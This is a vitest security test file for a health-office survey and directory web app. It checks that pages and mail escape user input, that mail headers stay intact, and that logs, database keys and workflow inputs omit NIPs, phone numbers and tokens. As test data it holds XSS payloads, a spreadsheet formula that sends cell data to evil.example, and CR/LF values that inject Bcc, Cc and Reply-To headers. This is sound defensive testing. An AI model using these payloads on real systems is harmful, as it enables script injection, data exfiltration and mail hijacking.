import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, PutCommand } from '@aws-sdk/lib-dynamodb';
import { ulid } from 'ulid';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { mailKeys } from '#shared/db/keys';
import { outboxItem } from '#shared/mail/outbox';
import { ELEMENTS } from '#test/support/surveys';
import { jsonOf, OFFICE_A, type SecurityCloud, startSecurityCloud } from './support.ts';

/** What leaves the system: pages and mail escape what users typed, logs and keys hold no personal data or tokens. */

let sc: SecurityCloud;

beforeAll(async () => {
  sc = await startSecurityCloud('leakstest');
});

afterAll(async () => {
  await sc?.stop();
});

const SCRIPT = '<script>alert("abdi")</script>';
const IMG = '"><img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';

const domainTable = () => sc.cloud.system.tables.find((t) => t.logicalId.startsWith('DataDomain'))!.tableName;

/** No markup from the data made it into the page as markup (as escaped text it may stay). */
const expectInert = (page: string) => {
  expect(page).not.toContain('<script');
  expect(page).not.toContain('<img');
  expect(page).not.toContain('<svg');
};

describe('pages escape what users typed', () => {
  it("shows a unit's name and services with markup as text on its survey form", async () => {
    const created = await sc.send('admin', {
      method: 'POST',
      path: '/directory/units',
      body: {
        code: 'SEC-XSS',
        name: `${SCRIPT} Puskesmas`,
        type: 'puskesmas',
        parentCode: OFFICE_A,
        services: [IMG, 'Layanan\r\numum', FORMULA],
      },
    });
    expect(created.status, created.text).toBe(201);
    const page = await sc.send('anonymous', { method: 'GET', path: '/s/SEC-XSS' });
    expect(page.status).toBe(200);
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
    expectInert(page.text);
    expect(page.text).toContain('&lt;script&gt;');
    expect(page.text).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(page.headers['content-security-policy']).toContain("default-src 'none'");
  });

  it('keeps a rejected suggestion with markup on the form again, as text', async () => {
    const form = new URLSearchParams({ responseId: ulid(), suggestion: `${SCRIPT}${IMG}`, website: '' });
    form.set('answers.persyaratan', '9');
    form.set(`<svg onload=alert(1)>`, 'x');
    const page = await sc.send('anonymous', {
      method: 'POST',
      path: `/s/${OFFICE_A}`,
      body: form.toString(),
      contentType: 'application/x-www-form-urlencoded',
    });
    expect(page.status).toBe(422);
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
    expectInert(page.text);
    expect(page.text).not.toContain('<svg');
    expect(page.text).toContain('&lt;script&gt;');
  });

  it('names a bad field with markup in its name as text on an error page', async () => {
    const page = await sc.send('anonymous', {
      method: 'POST',
      path: `/s/${OFFICE_A}`,
      body: `${encodeURIComponent('answers.<img src=x onerror=alert(1)>')}=1&responseId=x`,
      contentType: 'application/x-www-form-urlencoded',
    });
    expect(page.status).toBeGreaterThanOrEqual(400);
    expect(page.status).toBeLessThan(500);
    expectInert(page.text);
  });

  it('keeps spreadsheet formulas and markup in stored text as sent, answered as JSON text', async () => {
    const created = await sc.send('operatorA', {
      method: 'POST',
      path: `/forms/${sc.fx.formId}/submissions`,
      body: { values: { nama: FORMULA, catatan: `${SCRIPT}\r\n${IMG}` } },
    });
    expect(created.status, created.text).toBe(201);
    expect(created.headers['content-type']).toBe('application/json');
    expect(created.headers['x-content-type-options']).toBe('nosniff');
    const read = jsonOf(await sc.send('operatorA', { method: 'GET', path: `/submissions/${jsonOf(created).id}` }));
    expect(read.values).toEqual({ nama: FORMULA, catatan: `${SCRIPT}\r\n${IMG}` });
  });
});

describe('mail escapes what users typed and keeps its headers whole', () => {
  it('sends a mail whose data holds CR/LF, markup and formulas with a one-line subject, no added recipient and inert HTML', async () => {
    const now = new Date();
    const id = ulid();
    const { Put } = outboxItem(
      {
        id,
        template: 'notice',
        to: ['penerima@dinkes.palembang.local'],
        data: {
          subject: 'Permohonan Siti\r\nBcc: korban@example.com\r\n\r\n<b>isi palsu</b>',
          recipientName: 'Siti\nX-Injected: ya',
          paragraphs: [`Catatan: ${SCRIPT}`, FORMULA],
          details: [{ label: 'Nama\r\nCc: lain@example.com', value: IMG }],
          officeName: `<b>Dinas</b>\r\nReply-To: jahat@example.com`,
        },
      },
      now,
      { table: domainTable(), publicBaseUrl: sc.cloud.url },
    );
    // As the reconciler leaves a mail that failed every attempt.
    const failed = { ...Put.Item, ...mailKeys(id, 'failed', now.toISOString()), status: 'failed', attempts: 5 };
    await DynamoDBDocumentClient.from(sc.cloud.dynamodb).send(
      new PutCommand({ TableName: domainTable(), Item: failed }),
    );

    const resent = await sc.send('admin', { method: 'POST', path: `/mail/${id}/resend` });
    expect(resent.status, resent.text).toBe(200);
    const mail = await vi.waitFor(async () => {
      const found = (await sc.cloud.outbox()).find((m) => m.subject.startsWith('Permohonan Siti'));
      expect(found).toBeDefined();
      return found!;
    });
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(mail.to).toEqual(['penerima@dinkes.palembang.local']);
    expect([...mail.cc, ...mail.bcc, ...mail.replyTo]).toEqual([]);
    expectInert(mail.html ?? '');
    expect(mail.html).not.toContain('<b>');
    expect(mail.html).toContain('&lt;script&gt;');
    expect(mail.text).toContain(FORMULA);
    // Text may name a URL (mail clients may autolink it in the text part), but no link of the HTML leaves the site.
    const hrefs = [...(mail.html ?? '').matchAll(/href="([^"]*)"/g)].map((m) => m[1]!);
    expect(hrefs.every((href) => href.startsWith(sc.cloud.url))).toBe(true);
  });
});

describe('privacy', () => {
  const NIP = '198503152010011002';
  const PHONE = '081234567890';

  it('keeps full NIPs, phone numbers and bearer tokens out of every log line and every key', async () => {
    const tokens: string[] = [];
    const capture = async () => {
      const token = (await sc.tokenOf('admin'))!;
      tokens.push(token);
      return token;
    };
    const person = await sc.send('admin', {
      method: 'POST',
      path: '/directory/people',
      body: {
        name: 'Pegawai Rahasia',
        email: 'rahasia@dinkes.palembang.local',
        employeeType: 'PNS',
        nip: NIP,
        phone: PHONE,
      },
      headers: { authorization: `Bearer ${await capture()}` },
    });
    expect(person.status, person.text).toBe(201);
    const id = jsonOf(person).id;
    // The same data, malformed and failing, so error paths log too.
    await sc.send('admin', {
      method: 'POST',
      path: '/directory/people',
      body: {
        name: 'Pegawai Rahasia',
        email: 'rahasia@dinkes.palembang.local',
        employeeType: 'PNS',
        nip: NIP,
        phone: PHONE,
      },
      headers: { authorization: `Bearer ${await capture()}` },
    });
    await sc.send('admin', {
      method: 'PATCH',
      path: `/directory/people/${id}`,
      body: { version: 99, nip: `${NIP}9`, phone: `${PHONE}x` },
      headers: { authorization: `Bearer ${await capture()}` },
    });
    await sc.send('admin', {
      method: 'POST',
      path: '/directory/import/people',
      body: `nama,email,jenis_pegawai,nip,telepon\nPegawai Impor,impor.rahasia@dinkes.palembang.local,PNS,${NIP},${PHONE}\n`,
      contentType: 'text/csv',
      headers: { authorization: `Bearer ${await capture()}` },
    });
    await sc.send('anonymous', {
      method: 'POST',
      path: `/surveys/${OFFICE_A}/responses`,
      body: {
        answers: Object.fromEntries(ELEMENTS.map((e) => [e, 4])),
        suggestion: `hubungi saya ${PHONE} NIP ${NIP}`,
      },
    });
    sc.cloud.faults.dynamodb.throttleRate = 1;
    try {
      const failing = await sc.send('admin', {
        method: 'PATCH',
        path: `/directory/people/${id}`,
        body: { version: 1, phone: PHONE, nip: NIP },
        headers: { authorization: `Bearer ${await capture()}` },
      });
      // The database keeps refusing: 503 to retry later, and the error is logged (redacted).
      expect(failing.status).toBe(503);
    } finally {
      sc.cloud.faults.dynamodb.throttleRate = 0;
    }

    const lines = await vi.waitFor(() => {
      const all = sc.cloud.logs.map((l) => l.line).join('\n');
      expect(all).toContain('UnhandledError');
      return all;
    });
    for (const secret of [NIP, PHONE, ...tokens, ...tokens.map((t) => t.split('.')[2]!)]) {
      expect(lines.includes(secret), `a log line holds ${secret.slice(0, 12)}...`).toBe(false);
    }

    const { Items = [] } = await sc.cloud.dynamodb.send(new ScanCommand({ TableName: domainTable() }));
    const keyNames = ['PK', 'SK', 'GSI1PK', 'GSI1SK', 'GSI2PK', 'GSI2SK', 'GSI3PK', 'GSI3SK', 'GSI4PK', 'GSI4SK'];
    const keys = Items.flatMap((item) => keyNames.map((k) => item[k]?.S ?? '')).join('\n');
    expect(keys).not.toContain(NIP);
    expect(keys).not.toContain(PHONE);
    // A person keeps only an HMAC and a masked form of the NIP.
    const people = Items.filter((item) => item.entity?.S === 'person' || item.PK?.S?.startsWith('PERSON#'));
    expect(JSON.stringify(people)).not.toContain(NIP);
  });

  it('masks phone numbers for everyone but an admin reading one person', async () => {
    const created = jsonOf(
      await sc.send('admin', {
        method: 'POST',
        path: '/directory/people',
        body: {
          name: 'Pegawai Bertelepon',
          email: 'telepon@dinkes.palembang.local',
          employeeType: 'PNS',
          phone: PHONE,
        },
      }),
    );
    const asOperator = await sc.send('operatorB', { method: 'GET', path: `/directory/people/${created.id}` });
    expect(asOperator.text).not.toContain(PHONE);
    expect(jsonOf(asOperator).phoneMasked).toBe('0812****890');
    const listed = await sc.send('admin', { method: 'GET', path: `/directory/people?unitCode=${OFFICE_A}&limit=500` });
    expect(listed.text).not.toContain(PHONE);
    expect(jsonOf(await sc.send('admin', { method: 'GET', path: `/directory/people/${created.id}` })).phone).toBe(
      PHONE,
    );
  });

  it('keeps link tokens and task tokens out of logs, keys, stored items, mail and pages', async () => {
    const { submissionId, token } = await sc.fx.newApprovalToken();
    await sc.fx.settle();
    const page = await sc.send('anonymous', { method: 'GET', path: `/approvals/${token}` });
    expect(page.status).toBe(200);
    const progress = await sc.send('operatorA', { method: 'GET', path: `/submissions/${submissionId}/progress` });
    expect(progress.status).toBe(200);
    const { Items = [] } = await sc.cloud.dynamodb.send(new ScanCommand({ TableName: domainTable() }));
    const taskTokens = Items.map((item) => item.taskToken?.S).filter((t): t is string => !!t);
    expect(taskTokens.length).toBeGreaterThan(0);

    const logs = sc.cloud.logs.map((l) => l.line).join('\n');
    const mail = JSON.stringify(await sc.cloud.outbox());
    for (const taskToken of taskTokens) {
      expect(logs.includes(taskToken), 'a task token in a log line').toBe(false);
      expect(mail.includes(taskToken), 'a task token in a mail').toBe(false);
      expect(page.text.includes(taskToken), 'a task token on the decision page').toBe(false);
      expect(progress.text.includes(taskToken), 'a task token in the progress').toBe(false);
    }
    expect(logs.includes(token), 'a link token in a log line').toBe(false);
    // The table keeps only a hash of the link token.
    expect(JSON.stringify(Items).includes(token), 'a link token in the table').toBe(false);
  });

  it('starts approval executions with ids only: no form values, NIP or phone in their input', async () => {
    const submitted = await sc.fx.call(
      'operatorA',
      {
        method: 'POST',
        path: `/forms/${sc.fx.workflowFormId}/submissions`,
        body: { values: { nama: 'Pemohon Rahasia', catatan: `NIP ${NIP}, telepon ${PHONE}` } },
      },
      201,
    );
    await sc.fx.settle();
    const stateMachineArn = sc.cloud.system.stateMachines[0]!.arn;
    const { executions = [] } = await sc.cloud.sfn.listExecutions({ stateMachineArn });
    const mine = executions.find((e) => e.name === submitted.id);
    expect(mine).toBeDefined();
    const { input = '' } = await sc.cloud.sfn.describeExecution({ executionArn: mine!.executionArn });
    expect(input).toContain(submitted.id);
    for (const secret of [NIP, PHONE, 'Pemohon Rahasia']) expect(input).not.toContain(secret);
  });
});
